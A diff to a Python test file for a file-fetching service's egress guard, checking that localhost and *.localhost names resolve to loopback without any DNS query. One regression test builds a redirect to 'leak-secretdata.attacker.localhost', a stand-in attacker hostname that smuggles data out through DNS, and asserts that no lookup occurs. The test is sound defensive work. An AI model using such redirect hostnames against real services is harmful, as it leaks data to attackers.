@@ -7,7 +7,9 @@ No test needs the network: a name "resolving outside loopback" comes from a stan
 
 from __future__ import annotations
 
+import asyncio
 import re
+import socket
 import subprocess
 import sys
 import threading
@@ -129,22 +131,55 @@ def test_a_redirect_to_a_name_is_refused_without_a_dns_lookup(
     assert resolver.asked == []
 
 
-def test_localhost_resolving_outside_loopback_is_refused(
-    host: Any, mock: MockServer, resolve_as: Callable[..., StandInResolver]
+@pytest.mark.parametrize("name", ["localhost", "LOCALHOST"])
+def test_localhost_is_loopback_without_asking_any_resolver(
+    host: Any, resolve_as: Callable[..., StandInResolver], name: str
 ) -> None:
-    url = _stored_png(host).replace("127.0.0.1", "localhost")
-    resolve_as({"localhost": ["192.0.2.9", "2001:db8::9"]})
-    message = _refusal(host, url)
-    assert "resolves to 192.0.2.9, 2001:db8::9, outside loopback" in message
-
-
-def test_only_the_loopback_addresses_of_a_name_are_used(
-    host: Any, resolve_as: Callable[..., StandInResolver]
-) -> None:
-    url = _stored_png(host).replace("127.0.0.1", "localhost")
-    resolve_as({"localhost": ["192.0.2.9", "127.0.0.1"]})
+    """RFC 6761: localhost and every *.localhost name are loopback, answered without DNS, so
+    whatever a hosts file or resolver would say is never asked (nor told the name)."""
+    resolver = resolve_as({"localhost": ["192.0.2.9", "2001:db8::9"]})
+    url = _stored_png(host).replace("127.0.0.1", name)
     data = host.ok(host.post(URL, {"fileUrl": url, "uploadPath": "copies"}))
     assert host.fetch(data["downloadUrl"]).body == PNG
+    assert resolver.asked == []
+
+
+@pytest.mark.parametrize("name", ["localhost", "files.localhost", "A.B.LOCALHOST."])
+@pytest.mark.parametrize(
+    ("family", "addresses"),
+    [
+        (socket.AF_UNSPEC, ["127.0.0.1", "::1"]),
+        (socket.AF_INET, ["127.0.0.1"]),
+        (socket.AF_INET6, ["::1"]),
+    ],
+)
+def test_the_resolver_answers_localhost_names_itself(
+    resolve_as: Callable[..., StandInResolver],
+    name: str,
+    family: socket.AddressFamily,
+    addresses: list[str],
+) -> None:
+    resolver = resolve_as({})
+    found = asyncio.run(egress.LoopbackResolver().resolve(name, 8080, family))
+    assert [(r["host"], r["port"], r["hostname"]) for r in found] == [
+        (address, 8080, name) for address in addresses
+    ]
+    assert resolver.asked == []
+
+
+def test_a_redirect_to_a_localhost_subdomain_sends_no_dns_query(
+    host: Any, redirects: Redirects, resolve_as: Callable[..., StandInResolver]
+) -> None:
+    """A loopback fileUrl redirecting to `<data>.attacker.localhost` once made the system
+    resolver send the name (and the data in it) to a DNS server off the machine."""
+    resolver = resolve_as({})
+    port = redirects.base.rsplit(":", 1)[1]
+    redirects.routes["/final.png"] = _stored_png(host)
+    first = redirects.to("/cat.png", f"http://leak-secretdata.attacker.localhost:{port}/final.png")
+    data = host.ok(host.post(URL, {"fileUrl": first, "uploadPath": "copies"}))
+    assert host.fetch(data["downloadUrl"]).body == PNG
+    assert redirects.hits == ["/cat.png", "/final.png"]
+    assert resolver.asked == []
 
 
 def test_a_redirect_to_a_malformed_location_ends_with_a_400(
